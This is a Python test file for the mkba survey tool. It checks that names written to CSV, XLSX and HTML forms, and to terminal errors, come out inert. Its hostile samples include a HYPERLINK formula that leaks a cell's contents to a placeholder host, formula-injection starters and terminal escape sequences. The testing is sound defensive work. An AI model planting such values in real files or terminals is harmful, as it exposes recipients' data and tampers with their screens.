"""Every file mkba writes for people to open is inert (issue 18, item 2): one escaping function per
format (mkba/io/canonical.py; the terminal's in mkba/errors.py), each checked over arbitrary text
by writing it, reading the file back and comparing; no formula anywhere but mkba's own.

The probe's names: a criterion ``=HYPERLINK("https://example.org/leak?"&Questions!D9,...)``
became a live formula in the XLSX form sent to every party, a scenario name ``=2+3`` a
``<f>2+3</f>``; ESC sequences in names reached the terminal raw.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
import yaml
from hypothesis import HealthCheck, given, settings, strategies as st
from openpyxl import Workbook, load_workbook

from mkba.cli import main
from mkba.errors import InputIssue, MkbaError, ScenarioError, is_control, printable
from mkba.io.canonical import (FORMULA_STARTS, csv_text, file_text, html_text, inert_text, set_xlsx_formula,
                               set_xlsx_value)
from mkba.stages.check import read_scenario
from mkba.survey import check_form, write_forms
from mkba.survey.design import FormCriterion, FormSpec, pairwise_design
from mkba.survey.forms_html import render_html
from mkba.survey.forms_xlsx import FIRST_ROW, build_workbook

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("https://example.org/leak?"&Questions!D9,"click")', "=2+3", "+1+1", "-2+3", "@SUM(A1)",
           "\tTAB", "\rCR", "bell\a and \x1b[31mred\x1b[0m", "nul\x00vt\x0bff\x0c", "\u202eevil\u202c", "<b>&</b>"]
texts = st.text(st.characters(codec="utf-8"), max_size=40) | st.sampled_from(HOSTILE)


def no_control(text: str, allowed: str = "") -> bool:
    return not any(is_control(ch) and ch not in allowed for ch in text)


# ---------------------------------------------------------------------------------------------
# Terminal
# ---------------------------------------------------------------------------------------------


@given(texts)
def test_printable_shows_every_control_character_and_changes_nothing_else(text):
    shown = printable(text)
    assert no_control(shown, "\n")
    if no_control(text, "\n"):
        assert shown == text
    assert printable(shown) == shown
    issue = InputIssue(file=f"{text}.csv", message=f"name {text}", value=text, field=text)
    for line in (str(issue), str(ScenarioError([issue])), str(MkbaError(text))):
        assert no_control(line, "\n")


def test_cli_errors_show_escape_sequences_visibly(tmp_path, capsys):
    form = tmp_path / "x\x1b[2J\x1b]0;pwned\x07.xlsx"
    code = main(["collect", str(ROOT / "scenarios" / "kraaihoek" / "scenario.yaml"), str(form)])
    err = capsys.readouterr().err
    assert code == 2 and "\x1b" not in err and "\x07" not in err
    assert "x\\x1b[2J\\x1b]0;pwned\\x07.xlsx" in err


# ---------------------------------------------------------------------------------------------
# CSV
# ---------------------------------------------------------------------------------------------


@given(st.lists(texts, min_size=1, max_size=6))
def test_csv_cells_read_back_as_the_text_made_inert(values):
    frame = pd.DataFrame({"name": values, "n": range(len(values))}, index=pd.Index(values, name="id"))
    rows = list(csv.reader(io.StringIO(csv_text(frame), newline="")))
    assert rows[0] == ["id", "name", "n"]
    for text, row in zip(values, rows[1:]):
        for cell in row[:2]:
            visible = printable(text, keep="\t\n\r")
            starts = visible.startswith(FORMULA_STARTS) and inert_text(visible) != visible
            assert cell == ("'" if starts else "") + file_text(text)
            assert no_control(cell, "\t\n") and (not cell.startswith(FORMULA_STARTS) or inert_text(cell) == cell)


# ---------------------------------------------------------------------------------------------
# XLSX
# ---------------------------------------------------------------------------------------------


def formula_cells(path: Path) -> dict[str, set[str]]:
    """Every cell with an ``<f>`` element, per sheet part, straight from the XML."""
    found: dict[str, set[str]] = {}
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode("utf-8")
                cells = re.finditer(r'<c\b([^>]*?)(?:/>|>(.*?)</c>)', xml, re.S)
                refs = {re.search(r'\br="([A-Z]+\d+)"', m.group(1)).group(1) for m in cells
                        if m.group(2) and re.search(r"<f\b", m.group(2))}
                if refs:
                    found[name] = refs
    return found


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(texts, min_size=1, max_size=6))
def test_xlsx_text_cells_read_back_as_text_and_no_formula(tmp_path_factory, values):
    path = tmp_path_factory.mktemp("x") / "t.xlsx"
    wb = Workbook()
    for r, text in enumerate(values, start=1):
        set_xlsx_value(wb.active.cell(row=r, column=1), text)
    set_xlsx_formula(wb.active.cell(row=1, column=2), "=1+1")
    wb.save(path)
    ws = load_workbook(path).active
    for r, text in enumerate(values, start=1):
        cell = ws.cell(row=r, column=1)
        expected = file_text(text)
        assert cell.value == (expected or None)
        if expected:
            assert cell.data_type == "s"
            assert bool(cell.quotePrefix) == printable(text, keep="\t\n\r").startswith(FORMULA_STARTS)
    assert formula_cells(path) == {"xl/worksheets/sheet1.xml": {"B1"}}  # only the formula written as one


def test_set_xlsx_formula_takes_only_formulas():
    with pytest.raises(ValueError, match="starts with '='"):
        set_xlsx_formula(Workbook().active["A1"], "SUM(A2:A3)")


def _spec(kind: str, names: list[str], scenario: str) -> FormSpec:
    criteria = tuple(FormCriterion(f"c{k}", name, name, "benefit", 0.0, float(k + 1), name)
                     for k, name in enumerate(names))
    return FormSpec(scenario=scenario, scenario_file="s.yaml", stakeholder="p", stakeholder_name=names[0],
                    kind=kind, lang="en", criteria=criteria, respondent=names[-1], ri=0.58, input_hash="0" * 64,
                    pairs=pairwise_design(len(names)) if kind == "pairwise" else ())


def own_formulas(kind: str, n: int) -> dict[str, set[str]]:
    """The cells a form holds formulas in on purpose: the live CR and weights (question sheet) and
    the hidden calculation sheet (every cell but the starting vector)."""
    if kind == "pairwise":
        return {"xl/worksheets/sheet3.xml": {"C6"} | {f"K{FIRST_ROW + i}" for i in range(n)}}
    if kind == "swing":
        return {"xl/worksheets/sheet3.xml": {f"J{FIRST_ROW + i}" for i in range(n)}}
    return {}


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(texts, min_size=3, max_size=3), texts, st.sampled_from(["pairwise", "ranking", "swing"]))
def test_survey_forms_hold_names_as_text_and_only_their_own_formulas(tmp_path_factory, names, scenario, kind):
    path = tmp_path_factory.mktemp("f") / "form.xlsx"
    build_workbook(_spec(kind, names, scenario)).save(path)
    found = formula_cells(path)
    calc = {k: v for k, v in found.items() if k == "xl/worksheets/sheet4.xml" and kind == "pairwise"}
    assert {k: v for k, v in found.items() if k not in calc} == own_formulas(kind, len(names))
    wb = load_workbook(path)
    criteria = wb["Criteria"]
    for r, name in enumerate(names, start=2):
        for column in ("B", "C", "G"):  # name, unit, description
            cell = criteria[f"{column}{r}"]
            assert cell.value == (file_text(name) or None)
            assert cell.value is None or cell.data_type == "s"
    assert wb["Questions"]["C5"].value == (file_text(names[-1]) or None)


@pytest.mark.slow
def test_the_probes_names_are_text_in_the_forms_and_libreoffice_shows_them(tmp_path):
    """The hostile names in a real scenario: the forms hold them as text; LibreOffice, which
    recalculates every formula when it converts, shows the text, not a computed value; the
    re-saved form still collects."""
    target = tmp_path / "kraaihoek"
    shutil.copytree(ROOT / "scenarios" / "kraaihoek", target)
    scenario_file = target / "scenario.yaml"
    text = scenario_file.read_text(encoding="utf-8")
    doc = yaml.safe_load(text)
    pm = next(c for c in doc["criteria"] if "shadow_price" not in c)
    for old, new in ((doc["name"], "=2+3"), (pm["name"], HOSTILE[0])):
        text = text.replace(f"name: {old}\n", f"name: {yaml.safe_dump(new).splitlines()[0]}\n", 1)
    scenario_file.write_text(text, encoding="utf-8")
    assert read_scenario(scenario_file).name == "=2+3"
    write_forms(scenario_file, tmp_path / "f", kind="swing", lang="en")
    form = tmp_path / "f" / "gemeente.xlsx"
    assert formula_cells(form) == own_formulas("swing", 6)
    filled = load_workbook(form)
    for k, points in enumerate([100, 50, 20, 0, 70, 10]):
        filled["Questions"][f"G{FIRST_ROW + k}"] = points
    filled.save(form)
    assert formula_cells(form) == own_formulas("swing", 6)  # openpyxl's re-save keeps the names text
    ws = load_workbook(form)["Criteria"]
    names = [ws[f"B{r}"].value for r in range(2, 8)]
    assert HOSTILE[0] in names and ws[f"B{names.index(HOSTILE[0]) + 2}"].quotePrefix
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed; the spreadsheet view is checked only with it")
    profile = tmp_path / "lo-profile"
    done = subprocess.run([soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--calc",
                           "--convert-to", "xlsx", "--outdir", str(tmp_path / "calc"), str(form)],
                          capture_output=True, timeout=120)
    recalculated = tmp_path / "calc" / "gemeente.xlsx"
    assert done.returncode == 0 and recalculated.is_file(), done.stderr.decode(errors="replace")[-300:]
    shown = load_workbook(recalculated, data_only=True)
    assert [shown["Criteria"][f"B{r}"].value for r in range(2, 8)] == names
    assert shown["Questions"]["C2"].value == "=2+3"
    wb = load_workbook(recalculated)
    assert wb["Questions"]["C2"].data_type == "s" and wb["Criteria"][f"B{names.index(HOSTILE[0]) + 2}"].data_type == "s"
    input_hash = read_scenario(scenario_file).input_hash
    got, issues = check_form(recalculated, input_hash)
    before = check_form(form, input_hash)[0]
    assert [i for i in issues if i.severity == "error"] == [] and got is not None and before is not None
    assert dict(got.points) == dict(before.points) and got.stakeholder == "gemeente"  # the re-saved form collects the same


# ---------------------------------------------------------------------------------------------
# HTML
# ---------------------------------------------------------------------------------------------


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.tags.append((tag, tuple(sorted(name for name, _ in attrs))))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _parse(page: str) -> _Page:
    parser = _Page()
    parser.feed(page)
    parser.close()
    return parser


@given(texts)
def test_html_text_reads_back_as_the_text(text):
    parser = _parse(f"<p title=\"{html_text(text)}\">{html_text(text)}</p>")
    assert parser.tags == [("p", ("title",))] and "".join(parser.text) == file_text(text)
    assert no_control(html_text(text), "\t\n")


@settings(max_examples=30, deadline=None)
@given(st.lists(texts, min_size=3, max_size=3), texts, st.sampled_from(["pairwise", "ranking", "swing"]))
def test_html_forms_hold_names_as_text(names, scenario, kind):
    page = render_html(_spec(kind, names, scenario))
    plain = render_html(_spec(kind, ["a", "b", "c"], "s"))
    parsed = _parse(page)
    assert parsed.tags == _parse(plain).tags  # no name opened a tag or added an attribute
    shown = "".join(parsed.text)
    for name in names + [scenario]:
        assert file_text(name) in shown or html_text(name) in page
    assert no_control(page, "\t\n")
